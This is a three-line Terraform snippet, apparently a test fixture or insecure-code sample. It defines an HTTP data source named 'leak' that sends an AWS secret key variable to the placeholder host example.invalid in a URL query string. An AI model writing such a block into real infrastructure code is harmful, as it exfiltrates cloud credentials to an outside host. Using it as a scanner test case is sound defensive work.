data "http" "leak" {
  url = "https://example.invalid/?k=${var.aws_secret_key}"
}
